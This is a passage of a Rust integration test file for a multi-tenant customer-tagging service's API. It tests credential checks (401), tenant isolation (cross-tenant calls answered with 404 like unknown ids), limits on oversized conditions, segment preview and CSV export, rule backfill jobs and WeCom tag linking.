//! tagging-svc's internal API on MariaDB and SQLite, called as the gateway calls it (a service
//! credential naming the tenant and the actor): a condition that does not validate is refused
//! naming the node; a preview counts and samples an unsaved condition; saving a rule backfills
//! every profile (progress in its job) and changing or deleting it brings profiles back in line;
//! a segment exports as CSV; tags by hand, recorded as the principal's actor.
//!
//! Also: no route answers without a valid credential (401); a tenant sees and touches only its
//! own groups, tags, rules, jobs, profiles, WeCom mirror and write-back queue (another tenant's
//! are 404 exactly like unknown ids, lists never show them); a condition naming a tag the
//! tenant does not have is 400 `unknown_tag` at its node (rules, validation, preview, export);
//! manual tags need a profile and a tag of the tenant (404); exported cells that a spreadsheet
//! would read as formulas are neutralised.

use std::collections::BTreeMap;
use std::sync::Arc;
use std::time::Duration;

use actix_web::http::Method;
use actix_web::{test as atest, web, App};
use chrono::{DateTime, Utc};
use proto::auth::Role;
use proto::identity::{ProfileResolved, ProfileUpdated, Relations, WecomFollow};
use proto::Envelope;
use sea_orm::{ActiveModelTrait, Set};
use serde_json::{json, Value};
use tagging_svc::clock::ManualClock;
use tagging_svc::store::tagger::Tagger;
use test_support::auth;
use test_support::db::{Backend, TestDb};
use test_support::pages;

const T: &str = "t-api";
/// Another tenant of the same deployment.
const OTHER: &str = "t-api-other";

pub(crate) fn now() -> DateTime<Utc> {
    "2026-06-10T02:00:00Z".parse().unwrap()
}

pub(crate) async fn setup(backend: Backend) -> (TestDb, Tagger) {
    let db = TestDb::migrated::<tagging_svc::store::Migrator>(backend).await;
    let mut cfg = tagging_svc::Config::new(
        platform::config::HttpConfig {
            bind: "127.0.0.1:0".parse().unwrap(),
            workers: 1,
        },
        db.cfg.clone(),
    );
    cfg.backfill_batch = 100;
    let tagger = tagging_svc::tagger(db.conn.clone(), cfg, Arc::new(ManualClock::new(now())));
    (db, tagger)
}

/// The service's API (WeCom access off) in a test `App` that verifies credentials signed with
/// the test internal key (macro: the service's type cannot be named).
macro_rules! api {
    ($db:expr, $tagger:expr) => {{
        let routes = tagging_svc::api::wecom::routes(
            tagging_svc::api::routes($tagger.clone()),
            $db.conn.clone(),
            None,
        );
        atest::init_service(
            App::new()
                .app_data(web::Data::new(auth::key()))
                .app_data(platform::http::query_config())
                .app_data(platform::http::json_config())
                .configure(move |c: &mut web::ServiceConfig| routes(c)),
        )
        .await
    }};
}

/// A request signed for `tenant` (as `user:test`, an operator), with a JSON body when given.
pub(crate) fn req(
    method: Method,
    uri: &str,
    tenant: &str,
    body: Option<Value>,
) -> atest::TestRequest {
    let r = atest::TestRequest::default()
        .method(method)
        .uri(uri)
        .insert_header(auth::header(tenant));
    match body {
        Some(b) => r.set_json(b),
        None => r,
    }
}

/// Status and JSON body (the text as a JSON string when it is not JSON) of a `TestRequest` (macros: the
/// service's and the request's types cannot be named here).
macro_rules! call {
    ($app:expr, $req:expr $(,)?) => {{
        let res = atest::call_service($app, $req.to_request()).await;
        let status = res.status().as_u16();
        let body = atest::read_body(res).await;
        (
            status,
            serde_json::from_slice::<Value>(&body)
                .unwrap_or_else(|_| Value::String(String::from_utf8_lossy(&body).into_owned())),
        )
    }};
}

/// The JSON answer to a call as `tenant`, asserting its status.
macro_rules! ok {
    ($app:expr, $method:expr, $uri:expr, $tenant:expr, $body:expr, $want:expr $(,)?) => {{
        let (method, uri, tenant): (Method, &str, &str) = ($method, &$uri, $tenant);
        let (status, v) = call!($app, req(method.clone(), uri, tenant, $body));
        assert_eq!(status, $want, "{method} {uri} as {tenant}: {v}");
        v
    }};
}

/// Polls a job of `tenant` until it is done.
macro_rules! wait_job {
    ($app:expr, $tenant:expr, $id:expr $(,)?) => {{
        let id: &str = $id;
        let mut last = Value::Null;
        for _ in 0..200 {
            last = ok!(
                $app,
                Method::GET,
                format!("/v1/jobs/{id}"),
                $tenant,
                None,
                200
            );
            if last["status"] == "done" || last["status"] == "failed" {
                break;
            }
            tokio::time::sleep(Duration::from_millis(50)).await;
        }
        assert_eq!(last["status"], "done", "{last}");
        last
    }};
}

/// A group `group` with one tag `tag` of `tenant` through the API: (group id, tag id).
macro_rules! group_and_tag {
    ($app:expr, $tenant:expr, $group:expr, $tag:expr $(,)?) => {{
        let g = ok!(
            $app,
            Method::POST,
            "/v1/tag-groups",
            $tenant,
            Some(json!({"name": $group})),
            201
        );
        let gid = g["id"].as_str().unwrap().to_string();
        let t = ok!(
            $app,
            Method::POST,
            "/v1/tags",
            $tenant,
            Some(json!({"group_id": gid, "name": $tag})),
            201
        );
        (gid, t["id"].as_str().unwrap().to_string())
    }};
}

/// The CSV text of an export of `condition` with `fields` for `tenant`.
macro_rules! export {
    ($app:expr, $tenant:expr, $condition:expr, $fields:expr $(,)?) => {{
        let fields: &[&str] = $fields;
        let r = req(
            Method::POST,
            "/v1/segments/export",
            $tenant,
            Some(json!({"condition": $condition, "fields": fields})),
        );
        let res = atest::call_service($app, r.to_request()).await;
        assert_eq!(res.status(), 200);
        String::from_utf8(atest::read_body(res).await.to_vec()).unwrap()
    }};
}

/// A `profile.updated` of `tenant` for `id` with `fields` (and `follows`).
async fn profile(
    tagger: &Tagger,
    tenant: &str,
    id: &str,
    fields: Value,
    follows: Vec<WecomFollow>,
) {
    let fields: BTreeMap<String, Value> = serde_json::from_value(fields).unwrap();
    let u = ProfileUpdated {
        profile_id: id.to_string(),
        version: 1,
        changed: fields.keys().cloned().collect(),
        fields,
        relations: Relations {
            wecom_follows: follows,
            ..Relations::default()
        },
        cause_event: None,
    };
    tagger
        .handle(&Envelope::of(tenant, &u).build())
        .await
        .unwrap();
}

/// `n` page views of profile `id` of `tenant`, now.
pub(crate) async fn page_views(tagger: &Tagger, tenant: &str, id: &str, n: usize) {
    for _ in 0..n {
        let event = Envelope::builder(
            "channel.track.page_view",
            tenant,
            json!({"subject": {"anonymous_id": "a"}, "kind": "page_view"}),
        )
        .occurred_at(now())
        .build();
        let p = ProfileResolved {
            profile_id: id.to_string(),
            created: false,
            event,
            identifiers: vec![],
        };
        tagger
            .handle(&Envelope::of(tenant, &p).build())
            .await
            .unwrap();
    }
}

/// Profiles p00..p(n-1) of `tenant`: the even ones live in Hangzhou, every third visited 3
/// times.
async fn population(tagger: &Tagger, tenant: &str, n: usize) {
    for i in 0..n {
        let id = format!("p{i:02}");
        let city = if i % 2 == 0 { "Hangzhou" } else { "Ningbo" };
        profile(
            tagger,
            tenant,
            &id,
            json!({"contact.name": format!("Name, \"{i}\""), "contact.city": city}),
            vec![],
        )
        .await;
        if i % 3 == 0 {
            page_views(tagger, tenant, &id, 3).await;
        }
    }
}

fn condition() -> Value {
    json!({"version": 1, "root": {"type": "and", "children": [
        {"type": "property", "key": "contact.city", "value_type": "string", "op": "eq", "value": "Hangzhou"},
        {"type": "behaviour", "event": "track.page_view", "count": {"op": "gte", "value": 3},
         "window": {"type": "last", "days": 30}}]}})
}

async fn rules_preview_backfill_export(backend: Backend) {
    let (db, tagger) = setup(backend).await;
    population(&tagger, T, 30).await;
    let app = api!(db, tagger);

    // A `tenant_id` or `operator` an old caller still sends is ignored: the principal's count.
    let g = ok!(
        &app,
        Method::POST,
        "/v1/tag-groups",
        T,
        Some(json!({"tenant_id": OTHER, "name": "intent", "operator": "someone-else"})),
        201,
    );
    assert_eq!(g["tenant_id"], T);
    let t = ok!(
        &app,
        Method::POST,
        "/v1/tags",
        T,
        Some(json!({"tenant_id": OTHER, "group_id": g["id"], "name": "engaged locals"})),
        201,
    );
    assert_eq!(t["tenant_id"], T);
    let tag = t["id"].as_str().unwrap().to_string();
    let groups = ok!(
        &app,
        Method::GET,
        &format!("/v1/tag-groups?tenant_id={OTHER}"),
        T,
        None,
        200,
    );
    assert_eq!(groups["items"][0]["tags"][0]["id"], tag.as_str());
    let one = ok!(
        &app,
        Method::GET,
        &format!("/v1/tag-groups/{}", g["id"].as_str().unwrap()),
        T,
        None,
        200,
    );
    assert_eq!(
        (&one["name"], &one["tags"][0]["id"]),
        (&json!("intent"), &json!(tag))
    );

    // Pushing a group to WeCom needs no body; with WeCom access off, 503.
    let push = format!("/v1/tag-groups/{}/wecom/push", g["id"].as_str().unwrap());
    let e = ok!(&app, Method::POST, &push, T, None, 503);
    assert_eq!(e["code"], "wecom_sync_off", "{e}");

    // A bad condition: every error, each naming its node.
    let bad = json!({"version": 1, "root": {"type": "and", "children": [
        {"type": "property", "key": "contact.city", "value_type": "string", "op": "gt"},
        {"type": "behaviour", "event": "track.page_view", "window": {"type": "last", "days": 400}}]}});
    let e = ok!(
        &app,
        Method::POST,
        "/v1/tag-rules",
        T,
        Some(json!({"tag_id": tag, "name": "r", "condition": bad})),
        400,
    );
    assert_eq!(e["code"], "invalid_condition");
    let paths: Vec<&str> = e["details"]["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["path"].as_str().unwrap())
        .collect();
    assert!(paths.contains(&"root.children[1].window.days"), "{paths:?}");
    assert!(
        paths.iter().any(|p| p.starts_with("root.children[0]")),
        "{paths:?}"
    );

    // 10 000 nodes, wide or deep: refused by the limits with a 400, never a stack overflow. The
    // bodies are written as text (a 10 000-deep value would be built, serialised and dropped
    // recursively by the test itself).
    let leaf = r#"{"type":"property","key":"a","value_type":"bool","op":"exists"}"#;
    let wide = format!(
        r#"{{"type":"or","children":[{}]}}"#,
        vec![leaf; 10_000].join(",")
    );
    let deep = format!(
        "{}{leaf}{}",
        r#"{"type":"not","child":"#.repeat(10_000),
        "}".repeat(10_000)
    );
    // Wide: the rule parser's node limit names the node; deep: the JSON reader's depth limit
    // refuses the body before a tree is built.
    for (name, tree, code) in [
        (
            "wide",
            wide,
            r#""code":"too_many_nodes","message":"must have at most 200 nodes","path":"root""#,
        ),
        ("deep", deep, "recursion limit exceeded"),
    ] {
        let body =
            format!(r#"{{"tag_id":"{tag}","name":"r","condition":{{"version":1,"root":{tree}}}}}"#);
        let r = atest::TestRequest::post()
            .uri("/v1/tag-rules")
            .insert_header(auth::header(T))
            .insert_header(actix_web::http::header::ContentType::json())
            .set_payload(body);
        let (status, e) = call!(&app, r);
        assert_eq!(status, 400, "{name}");
        assert!(
            e["code"].is_string() && e["message"].is_string(),
            "{name}: {e}"
        );
        assert!(e.to_string().contains(code), "{name}: {e}");
    }

    // Preview of the unsaved condition: p00, p06, p12, p18, p24 (even and every third).
    let p = ok!(
        &app,
        Method::POST,
        "/v1/segments/preview",
        T,
        Some(json!({"condition": condition(), "sample": 3})),
        200,
    );
    assert_eq!(p["count"], 5);
    assert_eq!(p["sample"].as_array().unwrap().len(), 3);
    assert_eq!(p["sample"][0]["profile_id"], "p00");
    assert_eq!(p["sample"][0]["fields"]["contact.city"], "Hangzhou");

    // Saving backfills (batches of 100 profiles here); the rule is the principal's.
    let created = ok!(
        &app,
        Method::POST,
        "/v1/tag-rules",
        T,
        Some(
            json!({"tag_id": tag, "name": "engaged locals", "condition": condition(),
                    "operator": "typed-by-caller"})
        ),
        201,
    );
    assert_eq!(created["rule"]["updated_by"], "user:test");
    assert_eq!(created["rule"]["tenant_id"], T);
    let job_id = created["job"]["id"].as_str().unwrap().to_string();
    let job = wait_job!(&app, T, &job_id);
    assert_eq!(
        (job["total"].as_i64(), job["added"].as_i64()),
        (Some(30), Some(5))
    );
    let tags = ok!(&app, Method::GET, "/v1/profiles/p06/tags", T, None, 200);
    assert_eq!(tags["items"][0]["source"], "rule");
    let rules = ok!(&app, Method::GET, "/v1/tag-rules", T, None, 200);
    assert_eq!(rules["items"].as_array().unwrap().len(), 1);

    // The segment as CSV (quotes and commas escaped).
    let text = export!(&app, T, condition(), &["contact.name", "contact.city"]);
    let lines: Vec<&str> = text.lines().collect();
    assert_eq!(lines[0], "profile_id,contact.name,contact.city");
    assert_eq!(lines.len(), 6, "{lines:?}");
    assert_eq!(lines[1], "p00,\"Name, \"\"0\"\"\",Hangzhou");

    // Narrowing the rule removes the stale tags; deleting it takes back the rest.
    let rid = created["rule"]["id"].as_str().unwrap().to_string();
    let narrower = json!({"version": 1, "root": {"type": "property", "key": "contact.name", "value_type": "string", "op": "starts_with", "value": "Name, \"1"}});
    let updated = ok!(
        &app,
        Method::PUT,
        &format!("/v1/tag-rules/{rid}"),
        T,
        Some(json!({"name": "narrower", "condition": narrower, "mode": "add_remove"})),
        200,
    );
    let job = wait_job!(&app, T, updated["job"]["id"].as_str().unwrap());
    // p1, p10..p19 gain it; p00, p06, p24 lose it (p12 and p18 keep it).
    assert_eq!(
        (job["added"].as_i64(), job["removed"].as_i64()),
        (Some(9), Some(3))
    );
    let deleted = ok!(
        &app,
        Method::DELETE,
        &format!("/v1/tag-rules/{rid}"),
        T,
        None,
        200,
    );
    assert_eq!(deleted["rule"]["updated_by"], "user:test");
    let job = wait_job!(&app, T, deleted["job"]["id"].as_str().unwrap());
    assert_eq!(job["removed"].as_i64(), Some(11));
    let tags = ok!(&app, Method::GET, "/v1/profiles/p12/tags", T, None, 200);
    assert_eq!(tags["items"], json!([]));

    // By hand: recorded as the principal's actor, not a typed `operator`.
    let r = atest::TestRequest::post()
        .uri("/v1/profiles/p03/tags")
        .insert_header(auth::header_with(
            auth::TEST_INTERNAL_KEY,
            T,
            "user:rep7",
            Role::Operator,
        ))
        .set_json(json!({"tag_id": tag, "operator": "typed-by-caller"}));
    let (status, c) = call!(&app, r);
    assert_eq!(status, 200, "{c}");
    assert_eq!(c["changes"][0]["change"], "added");
    assert_eq!(c["changes"][0]["actor"], "user:rep7");
    let held = ok!(&app, Method::GET, "/v1/profiles/p03/tags", T, None, 200);
    assert_eq!(
        (&held["items"][0]["source"], &held["items"][0]["actor"]),
        (&json!("manual"), &json!("user:rep7"))
    );
    let c = ok!(
        &app,
        Method::DELETE,
        &format!("/v1/profiles/p03/tags/{tag}"),
        T,
        None,
        200,
    );
    assert_eq!(c["changes"][0]["change"], "removed");
    db.cleanup().await;
}

/// Without a credential, with one signed under another key, malformed or expired: 401 with a
/// stable code, before any handler reads the request. (The real server's middleware does the
/// same for every `/v1` route: `scrm/tests/tagging_e2e.rs`.)
async fn requests_without_a_valid_credential_are_refused(backend: Backend) {
    let (db, tagger) = setup(backend).await;
    let app = api!(db, tagger);
    let expired = {
        let mut p = platform::http::Principal::new(T, "user:test", Role::Operator);
        p.expires = Utc::now().timestamp() - 5;
        auth::key().sign(&p)
    };
    let (_, foreign) = auth::header_with(
        "another-deployment-key-0123456789abcdef",
        T,
        "user:test",
        Role::Owner,
    );
    let cases: [(Option<String>, &str); 4] = [
        (None, "unauthenticated"),
        (Some(foreign), "invalid_credential"),
        (Some("v1.garbage".into()), "malformed_credential"),
        (Some(expired), "expired_credential"),
    ];
    for (method, uri, body) in [
        (Method::GET, "/v1/tag-groups", None),
        (Method::GET, "/v1/tags", None),
        (Method::POST, "/v1/tag-groups", Some(json!({"name": "g"}))),
        (Method::GET, "/v1/tag-rules", None),
        (
            Method::POST,
            "/v1/conditions/validate",
            Some(json!({"condition": condition()})),
        ),
        (Method::GET, "/v1/wecom/sync-queue", None),
        (Method::GET, "/v1/profiles/p1/tags", None),
    ] {
        for (credential, code) in &cases {
            let mut r = atest::TestRequest::default()
                .method(method.clone())
                .uri(&format!("{uri}?tenant_id={T}"));
            if let Some(c) = credential {
                r = r.insert_header((platform::http::PRINCIPAL_HEADER, c.clone()));
            }
            if let Some(b) = &body {
                r = r.set_json(b.clone());
            }
            let (status, e) = call!(&app, r);
            assert_eq!(
                (status, e["code"].as_str()),
                (401, Some(*code)),
                "{method} {uri}: {e}"
            );
        }
    }
    // Nothing was created by the refused POSTs.
    let groups = ok!(&app, Method::GET, "/v1/tag-groups", T, None, 200);
    assert_eq!(groups["items"], json!([]));
    db.cleanup().await;
}

/// `foreign` (a call about another tenant's resource) is answered exactly like `unknown` (the
/// same call about an id nobody has): same status and code, the same message but for the id.
fn like_unknown(
    foreign: &(u16, Value),
    unknown: &(u16, Value),
    foreign_id: &str,
    unknown_id: &str,
) {
    assert_eq!(foreign.0, 404, "{}", foreign.1);
    assert_eq!(foreign.0, unknown.0, "{} vs {}", foreign.1, unknown.1);
    assert_eq!(foreign.1["code"], unknown.1["code"]);
    assert_eq!(
        foreign.1["message"]
            .as_str()
            .unwrap()
            .replace(foreign_id, unknown_id),
        unknown.1["message"].as_str().unwrap(),
    );
}

const CORP: &str = "wwTenantA";

fn follow(rep: &str, external: &str) -> WecomFollow {
    WecomFollow {
        corp_id: CORP.into(),
        user_id: rep.into(),
        external_userid: Some(external.into()),
        remark: None,
        add_way: Some(1),
        state: None,
        added_at: now(),
        deleted_at: None,
        corp_tags: Some(vec![]),
    }
}

async fn tenants_see_and_touch_only_their_own(backend: Backend) {
    let (db, tagger) = setup(backend).await;
    let app = api!(db, tagger);
    // Tenant T: profiles, a group and tag, a rule (and its job), a WeCom mirror, a linked group
    // and a queued write-back. The other tenant: a group and tag of its own.
    population(&tagger, T, 6).await;
    profile(&tagger, T, "pw", json!({}), vec![follow("rep1", "wmExt1")]).await;
    let (group, tag) = group_and_tag!(&app, T, "intent", "engaged");
    let (other_group, other_tag) = group_and_tag!(&app, OTHER, "mine", "mine");
    let created = ok!(
        &app,
        Method::POST,
        "/v1/tag-rules",
        T,
        Some(json!({"tag_id": tag, "name": "locals", "condition": condition()})),
        201,
    );
    let rule = created["rule"]["id"].as_str().unwrap().to_string();
    let job = created["job"]["id"].as_str().unwrap().to_string();
    wait_job!(&app, T, &job);
    let library: Vec<wechat::api::CorpTagGroup> = serde_json::from_value(json!([
        {"group_id": "etG1", "group_name": "级别", "order": 1,
         "tag": [{"id": "etT1", "name": "重要"}, {"id": "etT2", "name": "一般"}]},
        {"group_id": "etG2", "group_name": "来源", "order": 0, "tag": [{"id": "etT3", "name": "展会"}]}
    ]))
    .unwrap();
    tagging_svc::store::corp_tags::apply(&db.conn, T, CORP, &library, now())
        .await
        .unwrap();

    // Another tenant's WeCom link attempt: 404 like a corp group nobody mirrored; then T links.
    let link = |g: &str| format!("/v1/wecom/{CORP}/corp-tag-groups/{g}/link");
    let foreign = call!(
        &app,
        req(Method::POST, &link("etG1"), OTHER, Some(json!({})))
    );
    let unknown = call!(&app, req(Method::POST, &link("etNope"), T, Some(json!({}))));
    like_unknown(&foreign, &unknown, "etG1", "etNope");
    // A body that is not what the route takes is refused; no body at all takes the defaults.
    let e = ok!(
        &app,
        Method::POST,
        &link("etG1"),
        T,
        Some(json!({"selection": 5})),
        400
    );
    assert_eq!(
        (e["code"].as_str(), e["details"]["field"].as_str()),
        (Some("invalid_field"), Some("selection")),
        "{e}"
    );
    let e = ok!(
        &app,
        Method::POST,
        &link("etG1"),
        T,
        Some(json!(["not", "an", "object"])),
        400
    );
    assert_eq!(e["code"], "invalid_json", "{e}");
    let linked = ok!(&app, Method::POST, &link("etG1"), T, None, 201);
    assert_eq!(
        (&linked["name"], &linked["selection"]),
        (&json!("级别"), &json!("multi"))
    );
    let linked_group = linked["id"].as_str().unwrap().to_string();
    let linked_tag = linked["tags"][0]["id"].as_str().unwrap().to_string();
    // T tags a WeCom customer with a linked tag: a write-back is queued for rep1.
    ok!(
        &app,
        Method::POST,
        "/v1/profiles/pw/tags",
        T,
        Some(json!({"tag_id": linked_tag})),
        200,
    );

    // Every by-id route on T's resources, called by the other tenant: 404 like an unknown id.
    let by_id: Vec<(Method, String, Option<Value>, &str)> = vec![
        (
            Method::GET,
            format!("/v1/tag-groups/{group}"),
            None,
            group.as_str(),
        ),
        (
            Method::PATCH,
            format!("/v1/tag-groups/{group}/wecom"),
            Some(json!({"sync_wecom": true, "corp_id": "wwX"})),
            group.as_str(),
        ),
        (
            Method::PATCH,
            format!("/v1/tag-groups/{linked_group}/wecom"),
            Some(json!({"sync_wecom": false})),
            linked_group.as_str(),
        ),
        (
            Method::POST,
            format!("/v1/tag-groups/{group}/wecom/push"),
            None,
            group.as_str(),
        ),
        (Method::GET, format!("/v1/tags/{tag}"), None, tag.as_str()),
        (
            Method::PATCH,
            format!("/v1/tags/{tag}"),
            Some(json!({"name": "stolen", "status": "retired"})),
            tag.as_str(),
        ),
        (
            Method::GET,
            format!("/v1/tag-rules/{rule}"),
            None,
            rule.as_str(),
        ),
        (
            Method::PUT,
            format!("/v1/tag-rules/{rule}"),
            Some(json!({"name": "x", "condition": {"version": 1, "root":
                {"type": "property", "key": "a", "value_type": "bool", "op": "exists"}}})),
            rule.as_str(),
        ),
        (
            Method::DELETE,
            format!("/v1/tag-rules/{rule}"),
            None,
            rule.as_str(),
        ),
        (
            Method::POST,
            format!("/v1/tag-rules/{rule}/backfill"),
            None,
            rule.as_str(),
        ),
        (Method::GET, format!("/v1/jobs/{job}"), None, job.as_str()),
        (Method::GET, "/v1/profiles/p00/tags".into(), None, "p00"),
        (
            Method::POST,
            "/v1/profiles/p00/tags".into(),
            Some(json!({"tag_id": other_tag})),
            "p00",
        ),
        (
            Method::DELETE,
            format!("/v1/profiles/pw/tags/{other_tag}"),
            None,
            "pw",
        ),
        (
            Method::GET,
            format!("/v1/wecom/{CORP}/corp-tags"),
            None,
            CORP,
        ),
    ];
    for (method, uri, body, id) in by_id {
        let foreign = call!(&app, req(method.clone(), &uri, OTHER, body.clone()));
        let unknown_uri = uri.replace(id, "no-such-id");
        let unknown = call!(&app, req(method.clone(), &unknown_uri, OTHER, body));
        like_unknown(&foreign, &unknown, id, "no-such-id");
    }
    // T's tag on T's profile through the other tenant's credential (and the other tenant's
    // tag on T's profile): 404, nothing written.
    for (method, uri, body) in [
        (
            Method::POST,
            "/v1/profiles/p00/tags".to_string(),
            Some(json!({"tag_id": tag})),
        ),
        (
            Method::DELETE,
            format!("/v1/profiles/pw/tags/{linked_tag}"),
            None,
        ),
    ] {
        let (status, e) = call!(&app, req(method.clone(), &uri, OTHER, body));
        assert_eq!(status, 404, "{method} {uri}: {e}");
    }
    let held = ok!(&app, Method::GET, "/v1/profiles/pw/tags", T, None, 200);
    assert_eq!(held["items"].as_array().unwrap().len(), 1, "{held}");
    let held = ok!(&app, Method::GET, "/v1/profiles/p00/tags", T, None, 200);
    assert_eq!(held["items"].as_array().unwrap().len(), 1, "{held}");
    // The other tenant's own tag on T's profile id: still 404 (the profile is not theirs).
    let e = ok!(
        &app,
        Method::POST,
        "/v1/profiles/p00/tags",
        OTHER,
        Some(json!({"tag_id": other_tag})),
        404,
    );
    assert!(e["message"].as_str().unwrap().contains("p00"), "{e}");

    // Nothing of T changed.
    let t = ok!(&app, Method::GET, &format!("/v1/tags/{tag}"), T, None, 200);
    assert_eq!(
        (&t["name"], &t["status"]),
        (&json!("engaged"), &json!("active"))
    );
    let r = ok!(
        &app,
        Method::GET,
        &format!("/v1/tag-rules/{rule}"),
        T,
        None,
        200
    );
    assert_eq!((&r["name"], &r["version"]), (&json!("locals"), &json!(1)));
    let g = ok!(
        &app,
        Method::GET,
        &format!("/v1/tag-groups/{linked_group}"),
        T,
        None,
        200
    );
    assert_eq!(g["sync_wecom"], true);
    let g = ok!(
        &app,
        Method::GET,
        &format!("/v1/tag-groups/{group}"),
        T,
        None,
        200
    );
    assert_eq!((&g["sync_wecom"], g.get("corp_id")), (&json!(false), None));

    // Lists: each tenant sees its own only.
    let mine = ok!(&app, Method::GET, "/v1/tag-groups", OTHER, None, 200);
    let ids: Vec<&str> = mine["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g["id"].as_str().unwrap())
        .collect();
    assert_eq!(ids, [other_group.as_str()]);
    let theirs = ok!(&app, Method::GET, "/v1/tag-groups", T, None, 200);
    assert_eq!(theirs["items"].as_array().unwrap().len(), 2);
    assert!(!theirs.to_string().contains(&other_tag));
    let rules = ok!(&app, Method::GET, "/v1/tag-rules", OTHER, None, 200);
    assert_eq!(rules["items"], json!([]));
    let tags = ok!(&app, Method::GET, "/v1/tags", OTHER, None, 200);
    assert_eq!(tags["items"][0]["id"], other_tag.as_str(), "{tags}");
    assert_eq!(tags["items"].as_array().unwrap().len(), 1, "{tags}");
    let tags = ok!(
        &app,
        Method::GET,
        &format!("/v1/tags?group_id={group}"),
        OTHER,
        None,
        200
    );
    assert_eq!(
        tags["items"],
        json!([]),
        "another tenant's group holds nothing"
    );
    let queue = ok!(&app, Method::GET, "/v1/wecom/sync-queue", OTHER, None, 200);
    assert!(
        queue["counts"]
            .as_object()
            .unwrap()
            .values()
            .all(|n| n == 0),
        "{queue}"
    );
    let queue = ok!(
        &app,
        Method::GET,
        "/v1/wecom/sync-queue?recent=5",
        T,
        None,
        200
    );
    assert_eq!(queue["counts"]["pending"], 1, "{queue}");
    let mirror = ok!(
        &app,
        Method::GET,
        &format!("/v1/wecom/{CORP}/corp-tags"),
        T,
        None,
        200,
    );
    assert_eq!(mirror["items"].as_array().unwrap().len(), 2);
    // Segments start from the tenant's own profiles: T's population is not the other's.
    let everyone = json!({"version": 1, "root": {"type": "not", "child":
        {"type": "property", "key": "contact.city", "value_type": "string", "op": "eq", "value": "nowhere"}}});
    let p = ok!(
        &app,
        Method::POST,
        "/v1/segments/preview",
        OTHER,
        Some(json!({"condition": everyone})),
        200,
    );
    assert_eq!(p["count"], 0, "{p}");
    let p = ok!(
        &app,
        Method::POST,
        "/v1/segments/preview",
        T,
        Some(json!({"condition": everyone})),
        200,
    );
    assert_eq!(p["count"], 7, "{p}");
    assert_eq!(export!(&app, OTHER, everyone, &[]), "profile_id\n");
    // Naming another tenant's group or tag in a body: refused like an unknown one.
    for (uri, body, field) in [
        (
            "/v1/tags",
            json!({"group_id": group, "name": "x"}),
            "group_id",
        ),
        (
            "/v1/tag-rules",
            json!({"tag_id": tag, "name": "x", "condition": condition()}),
            "tag_id",
        ),
    ] {
        let e = ok!(&app, Method::POST, uri, OTHER, Some(body), 400);
        assert_eq!(
            (e["code"].as_str(), e["details"]["field"].as_str()),
            (Some("invalid_field"), Some(field)),
            "{e}"
        );
        assert!(
            e["message"].as_str().unwrap().contains("in this tenant"),
            "{e}"
        );
    }
    db.cleanup().await;
}

/// The errors of a 400 `unknown_tag` / `invalid_condition`: (path, code).
fn errors(e: &Value) -> Vec<(String, String)> {
    e["details"]["errors"]
        .as_array()
        .or(e["errors"].as_array())
        .unwrap()
        .iter()
        .map(|x| {
            (
                x["path"].as_str().unwrap().to_string(),
                x["code"].as_str().unwrap().to_string(),
            )
        })
        .collect()
}

fn pair(path: &str, code: &str) -> (String, String) {
    (path.to_string(), code.to_string())
}

async fn conditions_naming_unknown_tags_are_refused_at_their_node(backend: Backend) {
    let (db, tagger) = setup(backend).await;
    let app = api!(db, tagger);
    population(&tagger, T, 4).await;
    let (_, tag) = group_and_tag!(&app, T, "intent", "engaged");
    let (_, retired) = group_and_tag!(&app, T, "old", "retired one");
    ok!(
        &app,
        Method::PATCH,
        &format!("/v1/tags/{retired}"),
        T,
        Some(json!({"status": "retired"})),
        200,
    );
    let (_, foreign) = group_and_tag!(&app, OTHER, "theirs", "theirs");
    let city = json!({"type": "property", "key": "contact.city", "value_type": "string", "op": "eq", "value": "Hangzhou"});
    // `NOT has [no-such-tag]` would hold for everyone: refused, naming the node.
    let not_has = |t: &str| {
        json!({"version": 1, "root": {"type": "and", "children": [
            city.clone(), {"type": "not", "child": {"type": "tag", "op": "has", "tags": [t]}}]}})
    };
    let rule = |c: Value| Some(json!({"tag_id": tag, "name": "r", "condition": c}));
    for t in ["no-such-tag", foreign.as_str()] {
        let e = ok!(
            &app,
            Method::POST,
            "/v1/tag-rules",
            T,
            rule(not_has(t)),
            400
        );
        assert_eq!(e["code"], "unknown_tag", "{e}");
        assert_eq!(
            errors(&e),
            [pair("root.children[1].child.tags[0]", "unknown_tag")]
        );
        let message = e["message"].as_str().unwrap();
        assert!(
            message.contains("root.children[1].child.tags[0]") && message.contains(t),
            "{message}"
        );
        assert_eq!(
            e["details"]["errors"][0]["message"],
            format!("no tag `{t}` in this tenant")
        );
        // The same answer from validation (200 with the errors), preview and export.
        let v = ok!(
            &app,
            Method::POST,
            "/v1/conditions/validate",
            T,
            Some(json!({"condition": not_has(t)})),
            200,
        );
        assert_eq!(v["valid"], false);
        assert_eq!(
            errors(&v),
            [pair("root.children[1].child.tags[0]", "unknown_tag")]
        );
        for uri in ["/v1/segments/preview", "/v1/segments/export"] {
            let e = ok!(
                &app,
                Method::POST,
                uri,
                T,
                Some(json!({"condition": not_has(t), "fields": ["contact.city"]})),
                400,
            );
            assert_eq!(e["code"], "unknown_tag", "{uri}: {e}");
            assert_eq!(
                errors(&e),
                [pair("root.children[1].child.tags[0]", "unknown_tag")],
                "{uri}"
            );
        }
    }
    // Nothing was saved, nobody was tagged.
    let rules = ok!(&app, Method::GET, "/v1/tag-rules", T, None, 200);
    assert_eq!(rules["items"], json!([]));
    for p in ["p00", "p01"] {
        let held = ok!(
            &app,
            Method::GET,
            &format!("/v1/profiles/{p}/tags"),
            T,
            None,
            200
        );
        assert_eq!(held["items"], json!([]));
    }

    // Several leaves, some tags known (a retired tag still exists), with other errors: every
    // error at its node, the code `invalid_condition` for the mix.
    let mixed = json!({"version": 1, "root": {"type": "or", "children": [
        {"type": "tag", "op": "has_any", "tags": [tag, "ghost-1", retired]},
        {"type": "behaviour", "event": "track.page_view", "window": {"type": "last", "days": 400}},
        {"type": "and", "children": [city, {"type": "tag", "op": "has_none", "tags": ["ghost-2"]}]}]}});
    let e = ok!(
        &app,
        Method::POST,
        "/v1/tag-rules",
        T,
        rule(mixed.clone()),
        400
    );
    assert_eq!(e["code"], "invalid_condition", "{e}");
    let mut got = errors(&e);
    got.sort();
    assert_eq!(
        got,
        [
            pair("root.children[0].tags[1]", "unknown_tag"),
            pair("root.children[1].window.days", "out_of_range"),
            pair("root.children[2].children[1].tags[0]", "unknown_tag"),
        ]
    );
    let v = ok!(
        &app,
        Method::POST,
        "/v1/conditions/validate",
        T,
        Some(json!({"condition": mixed})),
        200,
    );
